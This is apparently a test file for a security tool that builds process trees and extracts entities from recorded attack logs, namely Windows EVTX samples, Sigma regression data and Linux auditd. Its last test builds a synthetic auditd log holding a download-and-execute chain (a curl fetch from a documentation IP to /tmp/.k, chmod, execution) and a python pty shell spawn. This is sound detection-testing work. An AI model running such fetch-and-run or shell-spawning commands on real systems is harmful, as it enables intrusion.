/**
 * Entities and process trees on real attack recordings (EVTX-ATTACK-SAMPLES, SigmaHQ regression
 * data, OTRF auditd), read by the real ingest path the server uses for uploads.
 */
import { readFileSync } from 'node:fs';
import { unzipSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { StoredEvent } from '../src/core/index.ts';
import type { Entity } from '../src/correlate/index.ts';
import { ProcessTree, extractEntities } from '../src/correlate/index.ts';
import { eventsFromRead, readBytes } from '../src/ingest/index.ts';

const DATA = new URL('../../shared/data/', import.meta.url).pathname;
const ATTACK = `${DATA}evtx/EVTX-ATTACK-SAMPLES/`;
const REGRESSION = `${DATA}sigma/regression_data/rules/windows/`;
const OTRF_LINUX = `${DATA}datasets/Security-Datasets/datasets/atomic/linux/`;

/** The events of one input as the server stores an upload of it. */
function storedEvents(bytes: Uint8Array, name: string, tenant = 'acme'): StoredEvent[] {
  const read = [...readBytes(bytes, name, { tenant })];
  expect(read.flatMap((b) => b.issues.filter((i) => i.severity === 'error'))).toEqual([]);
  return eventsFromRead(
    read.flatMap((b) => b.events),
    { tenant, receiver: 'upload', receivedAt: 0, idPrefix: name },
  ).map((e, i) => ({ ...e, seq: i + 1 }));
}

function sample(path: string): StoredEvent[] {
  return storedEvents(readFileSync(path), path);
}

function build(events: readonly StoredEvent[]): ProcessTree {
  const tree = new ProcessTree();
  for (const e of events) tree.add(e);
  return tree;
}

/** The image base names along a lineage. */
function images(tree: ProcessTree, ids: readonly string[]): (string | undefined)[] {
  return ids.map((id) => tree.node('acme', id)?.image?.split(/[\\/]/).pop());
}

function creation(events: readonly StoredEvent[], field: string, value: RegExp): StoredEvent {
  const found = events.find((e) => value.test(String(e.fields[field] ?? '')));
  expect(found, `${field} ~ ${String(value)}`).toBeDefined();
  return found!;
}

function ofType(list: readonly Entity[], type: string): string[] {
  return list.filter((e) => e.type === type).map((e) => `${e.role ?? '-'} ${e.id}`);
}

describe('process trees from EVTX-ATTACK-SAMPLES', () => {
  const office = sample(
    `${ATTACK}AutomatedTestingTools/Malware/sideloading_uacbypass_rundll32_injection_c2.evtx`,
  );
  const wmiexec = sample(`${ATTACK}Lateral Movement/LM_wmiexec_impacket_sysmon_whoami.evtx`);
  const token = sample(`${ATTACK}Privilege Escalation/security_4624_4673_token_manip.evtx`);
  const wmiTarget = sample(`${ATTACK}Lateral Movement/LM_WMI_4624_4688_TargetHost.evtx`);
  const atsvc = sample(`${ATTACK}Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx`);
  const seclogon = sample(`${ATTACK}Credential Access/tutto_malseclogon.evtx`);

  it('traces cmd.exe spawned by a side-loaded WINWORD.exe back through the UAC bypass (Sysmon 1)', () => {
    const tree = build(office);
    const cmd = creation(office, 'Image', /\\cmd\.exe$/);
    const lineage = tree.lineageOf(cmd);
    expect(images(tree, lineage)).toEqual(['cmd.exe', 'WINWORD.exe', 'test.exe', 'dllhost.exe']);
    expect(lineage).toEqual([
      'process:msedgewin10:747f3d96-d8f5-5f8a-0000-00106b6f7300',
      'process:msedgewin10:747f3d96-d8e5-5f8a-0000-0010e1bc7200',
      'process:msedgewin10:747f3d96-d8e3-5f8a-0000-001029a37200',
      'process:msedgewin10:747f3d96-d8e2-5f8a-0000-0010f28a7200',
    ]);
    // dllhost.exe is only named as a parent: its image comes from the child's ParentImage
    expect(tree.node('acme', lineage[3]!)).toMatchObject({
      seen: 'referenced',
      pid: 8500,
      image: 'C:\\Windows\\SysWOW64\\dllhost.exe',
    });
    const cmdNode = tree.node('acme', lineage[0]!);
    expect(cmdNode).toMatchObject({ seen: 'created', pid: 1680, user: 'MSEDGEWIN10\\IEUser' });
    expect(cmdNode?.commandLine).toMatch(/^cmd \/c ping 127\.0\.0\.1&&del/);
    expect(images(tree, tree.children('acme', lineage[1]!))).toEqual([
      'rundll32.exe',
      'explorer.exe',
      'WINWORD.exe',
      'cmd.exe',
    ]);

    const entities = extractEntities(cmd, { processes: tree });
    expect(ofType(entities, 'process')).toEqual([`actor ${lineage[0]}`, `parent ${lineage[1]}`]);
    expect(ofType(entities, 'user')).toEqual(['actor user:msedgewin10\\ieuser']);
    expect(ofType(entities, 'host')).toEqual(['- host:msedgewin10']);
    expect(entities.find((e) => e.id.startsWith('hash:sha256:'))?.attributes).toEqual({
      algorithm: 'sha256',
      of: 'C:\\Windows\\SysWOW64\\cmd.exe',
    });
  });

  it('traces whoami run by impacket wmiexec to WmiPrvSE.exe (Sysmon 1)', () => {
    const tree = build(wmiexec);
    const whoami = creation(wmiexec, 'Image', /\\whoami\.exe$/);
    const lineage = tree.lineageOf(whoami);
    expect(images(tree, lineage)).toEqual(['whoami.exe', 'cmd.exe', 'WmiPrvSE.exe']);
    const wmi = lineage[2]!;
    expect(tree.node('acme', wmi)).toMatchObject({ pid: 836, seen: 'referenced' });
    expect(tree.children('acme', wmi).map((id) => tree.node('acme', id)?.commandLine)).toEqual([
      'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1',
      'cmd.exe /Q /c cd  1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1',
      'cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1',
    ]);
    // a network event of the System process names it by GUID; it has no parent here
    const net = wmiexec.find((e) => e.fields['EventID'] === 3)!;
    expect(tree.lineageOf(net)).toEqual(['process:iewin7:365abb72-2584-5cc9-0000-0010ea030000']);
  });

  it('builds a tree from Security 4688 alone: pids with creation times, creators resolved by time', () => {
    const tree = build(token);
    const cmd = creation(token, 'NewProcessName', /\\cmd\.exe$/);
    const lineage = tree.lineageOf(cmd);
    const s = (ms: number): number => Math.floor(ms / 1000);
    const python = creation(token, 'NewProcessName', /\\python\.exe$/);
    expect(lineage).toEqual([
      `process:iewin7:3188:${s(cmd.ts)}`,
      `process:iewin7:1264:${s(python.ts)}`,
      'process:iewin7:300',
    ]);
    expect(images(tree, lineage)).toEqual(['cmd.exe', 'python.exe', undefined]);
    expect(images(tree, tree.children('acme', lineage[1]!))).toEqual([
      'wusa.exe',
      'wusa.exe',
      'cmd.exe',
    ]);
    // the 4624's logon process (0x3c8) is the creator of consent.exe; only its image is known
    const consent = creation(token, 'NewProcessName', /\\consent\.exe$/);
    const svchost = tree.lineageOf(consent)[1]!;
    expect(svchost).toBe('process:iewin7:968');
    expect(tree.node('acme', svchost)).toMatchObject({
      image: 'C:\\Windows\\System32\\svchost.exe',
      seen: 'referenced',
    });
    const logon = token.find((e) => e.fields['EventID'] === 4624)!;
    expect(tree.lineageOf(logon)).toEqual([svchost]);
  });

  it('reads a remote WMI execution: the network logon and calc.exe under WmiPrvSE.exe (4624 + 4688)', () => {
    const tree = build(wmiTarget);
    const calc = creation(wmiTarget, 'NewProcessName', /\\calc\.exe$/);
    expect(images(tree, tree.lineageOf(calc))).toEqual(['calc.exe', 'WmiPrvSE.exe', undefined]);
    const logon = wmiTarget.find(
      (e) => e.fields['EventID'] === 4624 && e.fields['TargetUserName'] === 'Administrator',
    )!;
    const entities = extractEntities(logon, { processes: tree });
    expect(entities.map((e) => `${e.role ?? '-'} ${e.id}`)).toEqual([
      '- host:win-77ltaphiq1r.example.corp',
      'target user:example\\administrator',
      'target session:win-77ltaphiq1r.example.corp:0x10fbcc',
      'source ip:10.0.2.17',
    ]);
    expect(entities.find((e) => e.type === 'ip')?.attributes).toMatchObject({
      scope: 'internal',
      range: 'rfc1918',
    });
    expect(entities.find((e) => e.type === 'session')?.attributes).toEqual({ logonType: 3 });
  });

  it('reads a remote scheduled task (ATSVC): the task with its command, and tasklist under cmd.exe', () => {
    const tree = build(atsvc);
    const created = atsvc.find((e) => e.fields['EventID'] === 4698)!;
    const task = extractEntities(created).find((e) => e.type === 'task');
    expect(task).toMatchObject({
      id: 'task:win-77ltaphiq1r.example.corp:\\cyalynss',
      role: 'target',
      attributes: {
        command: 'cmd.exe',
        arguments: '/C tasklist > %windir%\\Temp\\CYAlyNSS.tmp 2>&1',
      },
    });
    const tasklist = creation(atsvc, 'NewProcessName', /\\tasklist\.exe$/);
    expect(images(tree, tree.lineageOf(tasklist))).toEqual(['tasklist.exe', 'cmd.exe', undefined]);
  });

  it('joins the Sysmon and Security views of one machine (MalSeclogon, PPID spoofing)', () => {
    const tree = build(seclogon);
    // Sysmon gives the seclogon svchost.exe an all-zero parent GUID; its parent pid (628) is the
    // services.exe that 4688 names
    const svchost = seclogon.find(
      (e) => e.fields['EventID'] === 1 && String(e.fields['Image']).endsWith('svchost.exe'),
    )!;
    const [, services] = tree.lineageOf(svchost);
    expect(services).toBe('process:msedgewin10:628');
    expect(tree.node('acme', services!)?.image).toBe('C:\\Windows\\System32\\services.exe');
    // the spoofed parent of the second MalSeclogon.exe is lsass.exe (pid 636)
    const spoofed = seclogon.find(
      (e) => e.fields['EventID'] === 1 && String(e.fields['CommandLine']).includes('-l 1'),
    )!;
    expect(images(tree, tree.lineageOf(spoofed))).toEqual(['MalSeclogon.exe', 'lsass.exe']);
    // conhost.exe (4688) was created by pid 0x17b8 at the time Sysmon recorded MalSeclogon.exe
    // starting with that pid: the creator resolves to the Sysmon process
    const conhost = creation(seclogon, 'NewProcessName', /\\conhost\.exe$/);
    expect(tree.lineageOf(conhost).slice(1)).toEqual(tree.lineageOf(spoofed));
  });

  it('gives the same trees whatever order the events of all samples arrive in', () => {
    const all = [...office, ...wmiexec, ...token, ...wmiTarget, ...atsvc, ...seclogon];
    const snapshot = (tree: ProcessTree): unknown =>
      tree.nodes('acme').map((n) => ({
        ...n,
        children: tree.children('acme', n.id),
        ancestry: tree.ancestry('acme', n.id),
      }));
    const expected = snapshot(build(all));
    expect((expected as unknown[]).length).toBeGreaterThan(50);
    expect(snapshot(build([...all].reverse()))).toEqual(expected);
    fc.assert(
      fc.property(
        fc.shuffledSubarray(all, { minLength: all.length, maxLength: all.length }),
        (order) => {
          expect(snapshot(build(order))).toEqual(expected);
        },
      ),
      { numRuns: 15 },
    );
  });
});

describe('entities from SigmaHQ regression data', () => {
  it('names both processes of a Sysmon 10 access (WerFaultSecure.exe opening MsMpEng.exe)', () => {
    const [access] = sample(
      `${REGRESSION}process_access/proc_access_win_werfaultsecure_msmpeng_access/387df17d-3b04-448f-8669-9e7fd5e5fd8c.json`,
    );
    const list = extractEntities(access!);
    expect(list.map((e) => `${e.role ?? '-'} ${e.id} ${e.label}`)).toEqual([
      '- host:swachchhanda swachchhanda',
      'actor process:swachchhanda:0197231e-fc2d-6927-810b-000000000d00 WerFaultSecure.exe (7224)',
      'target process:swachchhanda:0197231e-2dd8-691e-4d00-000000000d00 MsMpEng.exe (3472)',
      'actor user:swachchhanda\\xodih swachchhanda\\xodih',
      'target user:nt authority\\system NT AUTHORITY\\SYSTEM',
    ]);
  });

  it('names the registry key of a Sysmon 13 and the file of a Sysmon 11', () => {
    const [reg] = sample(
      `${REGRESSION}registry/registry_set/registry_set_add_load_service_in_safe_mode/1547e27c-3974-43e2-a7d7-7f484fb928ec.json`,
    );
    expect(ofType(extractEntities(reg!), 'registry')).toEqual([
      'target registry:ar-win-dc.attackrange.local:hklm\\system\\currentcontrolset\\control\\safeboot\\minimal\\atomicsafemode\\(default)',
    ]);
    const [file] = sample(
      `${REGRESSION}file/file_event/file_event_win_advanced_ip_scanner/fed85bf9-e075-4280-9159-fbe8a023d6fa.json`,
    );
    expect(ofType(extractEntities(file!), 'file')).toEqual([
      'target file:ar-win-dc.attackrange.local:c:\\users\\admini~1\\appdata\\local\\temp\\advanced ip scanner 2\\platforms\\qwindows.dll',
    ]);
  });

  it('reads a 4648 explicit-credential logon: both accounts (domain case folded) and the process', () => {
    const [logon] = sample(
      `${REGRESSION}builtin/security/win_security_explicit_credential_local_logon/e3c6d245-7b8f-4e2a-c17f-a9d0e5b38f62.json`,
    );
    expect(extractEntities(logon!).map((e) => `${e.role ?? '-'} ${e.id}`)).toEqual([
      '- host:swachchhanda',
      'actor process:swachchhanda:888',
      'actor user:swachchhanda\\xodih',
      'target user:swachchhanda\\testuser',
      'actor session:swachchhanda:0x85527',
    ]);
  });
});

describe('process trees from auditd', () => {
  it('puts the OTRF arp and grep of one pipeline under the same shell (pid 29002)', () => {
    const zip = readFileSync(`${OTRF_LINUX}discovery/host/sh_arp_cache.zip`);
    const [log] = Object.values(unzipSync(zip));
    const events = storedEvents(log!, 'sh_arp_cache.log');
    const tree = build(events);
    expect(events.map((e) => tree.lineageOf(e))).toEqual([
      ['process:-:1631:1604994496', 'process:-:29002'],
      ['process:-:1632:1604994496', 'process:-:29002'],
    ]);
    expect(tree.children('acme', 'process:-:29002')).toEqual([
      'process:-:1631:1604994496',
      'process:-:1632:1604994496',
    ]);
    expect(tree.node('acme', 'process:-:1632:1604994496')).toMatchObject({
      image: '/bin/grep',
      commandLine: 'grep -v ^?',
    });
  });

  it('follows a synthetic reverse-shell chain through the real auditd reader, with pid reuse', () => {
    const hex = (s: string): string => Buffer.from(s).toString('hex').toUpperCase();
    const exec = (
      t: string,
      serial: number,
      pid: number,
      ppid: number,
      exe: string,
      argv: string[],
    ): string => {
      const head = `node=web01 type=SYSCALL msg=audit(${t}:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=${ppid} pid=${pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=7 comm="${exe.split('/').pop()}" exe="${exe}" key="exec"`;
      const args = argv.map((a, i) => `a${i}=${/[\s"]/.test(a) ? hex(a) : `"${a}"`}`).join(' ');
      return [
        head,
        `node=web01 type=EXECVE msg=audit(${t}:${serial}): argc=${argv.length} ${args}`,
        `node=web01 type=PROCTITLE msg=audit(${t}:${serial}): proctitle=${hex(argv.join('\0'))}`,
        `node=web01 type=EOE msg=audit(${t}:${serial}): `,
      ].join('\n');
    };
    const log = [
      exec('1700000000.100', 1, 4100, 900, '/usr/bin/bash', ['-bash']),
      exec('1700000010.200', 2, 4101, 4100, '/usr/bin/curl', [
        'curl',
        '-so',
        '/tmp/.k',
        'http://203.0.113.5/k',
      ]),
      exec('1700000011.300', 3, 4102, 4100, '/usr/bin/chmod', ['chmod', '+x', '/tmp/.k']),
      exec('1700000012.400', 4, 4103, 4100, '/tmp/.k', ['/tmp/.k']),
      exec('1700000013.500', 5, 4104, 4103, '/usr/bin/python3', [
        'python3',
        '-c',
        'import pty; pty.spawn("/bin/sh")',
      ]),
      exec('1700000014.600', 6, 4105, 4104, '/bin/sh', ['/bin/sh']),
      exec('1700000015.700', 7, 4106, 4105, '/usr/bin/id', ['id']),
      // later, pid 4101 is reused by cron's child
      exec('1700003600.000', 8, 4101, 1, '/usr/sbin/cron', ['/usr/sbin/cron', '-f']),
    ].join('\n');
    const events = storedEvents(new TextEncoder().encode(log), 'audit.log');
    expect(events).toHaveLength(8);
    const tree = build(events);
    const id = events[6]!;
    const lineage = tree.lineageOf(id);
    expect(images(tree, lineage)).toEqual(['id', 'sh', 'python3', '.k', 'bash', undefined]);
    expect(lineage).toEqual([
      'process:web01:4106:1700000015',
      'process:web01:4105:1700000014',
      'process:web01:4104:1700000013',
      'process:web01:4103:1700000012',
      'process:web01:4100:1700000000',
      'process:web01:900',
    ]);
    expect(tree.node('acme', lineage[2]!)?.commandLine).toBe(
      'python3 -c import pty; pty.spawn("/bin/sh")',
    );
    expect(tree.resolve('acme', 'web01', 4101, 1_700_000_010_500)).toBe(
      'process:web01:4101:1700000010',
    );
    expect(tree.lineageOf(events[7]!)).toEqual([
      'process:web01:4101:1700003600',
      'process:web01:1',
    ]);
    const entities = extractEntities(id, { processes: tree });
    expect(entities.map((e) => `${e.role ?? '-'} ${e.id}`)).toEqual([
      '- host:web01',
      'actor process:web01:4106:1700000015',
      'parent process:web01:4105:1700000014',
      'actor user:web01\\uid:1000',
      'actor session:web01:7',
    ]);
  });
});
